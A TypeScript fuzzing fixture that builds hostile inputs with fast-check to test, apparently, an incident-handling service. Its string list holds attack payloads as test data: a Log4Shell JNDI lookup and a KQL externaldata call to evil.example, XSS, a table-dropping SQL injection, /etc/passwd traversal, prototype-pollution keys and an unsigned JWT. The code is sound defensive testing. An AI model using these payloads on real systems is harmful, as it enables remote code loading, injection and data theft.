// biome-ignore-all lint/suspicious/noTemplateCurlyInString: other languages' placeholders.
import fc from 'fast-check';

/** What people who mean harm write where a word is expected. */
const written = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  'x\udfffy',
  '\ud83d',
  '\u202egnp.exe',
  '\u200b\u200d\ufeff',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__proto__.polluted',
  '<!channel>',
  '<https://evil.example|portal.azure.com>',
  '<at>everyone</at>',
  '{{DATE(2026-11-21T10:00:00Z)}}',
  '${jndi:ldap://evil.example/x}',
  '${$root}',
  '[click](javascript:alert(1))',
  '<script>alert(1)</script>',
  "'; drop table incidents; --",
  'SigninLogs | where UserPrincipalName == "a\\"b" | take 10',
  'union withsource=T * | extend x = externaldata(a:string)["https://evil.example"]',
  '../../../../etc/passwd',
  'C:\\Windows\\System32\\',
  'https://user:word@evil.example:99999/%00',
  'http://[::1%25eth0]/',
  'xn--80ak6aa92e.com',
  '1e999',
  '-0',
  'NaN',
  '0x7fffffffffffffff',
  '9'.repeat(400),
  '2026-13-45T99:99:99Z',
  '+275760-09-13T00:00:00.001Z',
  '-271821-04-20T00:00:00Z',
  'İ'.repeat(60),
  'ﷺ'.repeat(200),
  'ẞ'.repeat(99),
  'Z̴̨͝a'.repeat(300),
  '👩‍👩‍👧‍👦'.repeat(100),
  '"'.repeat(99),
  '\\'.repeat(101),
  '%'.repeat(99),
  ','.repeat(2_000),
  '\n'.repeat(2_000),
  'a '.repeat(5_000),
  'a.'.repeat(5_000),
  '@'.repeat(3_000),
  '&#x0;&#xd800;&#1114112;&lt;',
  '/subscriptions//resourceGroups//providers/',
  'eyJhbGciOiJub25lIn0.e30.',
];

export const hostileText = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...written) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 80 }) },
  {
    weight: 1,
    arbitrary: fc.string({ unit: fc.constantFrom('\ud800', '\udc00', '\0', 'a', '.', '@', '/') }),
  },
);

/** Deep enough for whatever calls itself to run out of stack. */
export function nested(depth: number, with_: 'list' | 'object'): unknown {
  let value: unknown = 'bottom';
  for (let n = 0; n < depth; n += 1) value = with_ === 'list' ? [value] : { a: value };
  return value;
}

/** Own keys that mean something to objects, as JSON can bring them. */
const polluting: unknown = JSON.parse(
  '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"toString":1,"hasOwnProperty":null,"length":-1}',
);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 8, arbitrary: hostileText },
  { weight: 3, arbitrary: fc.constantFrom(0, -1, 1e308, -1e308, 2 ** 53, 0.1, null, true, false, [], {}) },
  { weight: 2, arbitrary: fc.constant(polluting) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(nested(60, 'list'), nested(60, 'object'), nested(2_000, 'object')),
  },
  { weight: 2, arbitrary: fc.array(hostileText, { maxLength: 4 }) },
  { weight: 2, arbitrary: fc.dictionary(hostileText, hostileText, { maxKeys: 4 }) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

interface Change {
  way: number[];
  how: 'replace' | 'delete' | 'wrap' | 'repeat' | 'rename' | 'add';
  with_: unknown;
}
const change: fc.Arbitrary<Change> = fc.record({
  way: fc.array(fc.nat({ max: 30 }), { minLength: 1, maxLength: 6 }),
  how: fc.constantFrom('replace', 'replace', 'replace', 'delete', 'wrap', 'repeat', 'rename', 'add'),
  with_: hostileValue,
});

/** A payload as it is sent, with one to four places of it spoilt. */
export function spoilt(...payloads: unknown[]): fc.Arbitrary<unknown> {
  return fc
    .record({
      payload: fc.constantFrom(...payloads),
      changes: fc.array(change, { minLength: 1, maxLength: 4 }),
    })
    .map(({ payload, changes }) =>
      changes.reduce((spoilt, one) => asSent(apply(spoilt, one)), asSent(payload)),
    );
}

/** What comes over a wire: nothing is shared, nothing goes round in circles. */
function asSent(value: unknown): unknown {
  return JSON.parse(JSON.stringify(value) ?? 'null');
}

type Container = Record<string, unknown>;

function apply(payload: unknown, { way, how, with_ }: Change): unknown {
  let parent: Container | undefined;
  let key = '';
  let here: unknown = payload;
  for (const step of way) {
    if (typeof here !== 'object' || here === null) break;
    const keys = Object.keys(here);
    if (keys.length === 0) break;
    parent = here as Container;
    key = keys[step % keys.length] ?? '';
    here = parent[key];
  }
  if (!parent) return with_;
  switch (how) {
    case 'replace':
      parent[key] = with_;
      break;
    case 'delete':
      delete parent[key];
      break;
    case 'wrap':
      parent[key] = [parent[key], with_];
      break;
    case 'repeat':
      parent[key] = Array.from({ length: 12 }, () => parent?.[key]);
      break;
    case 'rename':
      parent[`${key}${typeof with_ === 'string' ? with_.slice(0, 20) : ''}_`] = parent[key];
      break;
    case 'add':
      Object.defineProperty(parent, '__proto__', {
        value: with_,
        enumerable: true,
        configurable: true,
        writable: true,
      });
  }
  return payload;
}

/** What nobody may have managed to change. */
export function expectCleanPrototypes(): void {
  const plain: { polluted?: unknown } = {};
  if (plain.polluted !== undefined || Object.keys(Object.prototype).length > 0) {
    throw new Error('Some input changed what all objects inherit.');
  }
}

/** Text that PostgreSQL stores and everybody can read again: no NUL, no half of a pair. */
export function isStorable(value: unknown): boolean {
  if (typeof value === 'string') return value.isWellFormed() && !value.includes('\0');
  if (typeof value !== 'object' || value === null) return typeof value !== 'number' || Number.isFinite(value);
  return Object.entries(value).every(([key, inner]) => isStorable(key) && isStorable(inner));
}
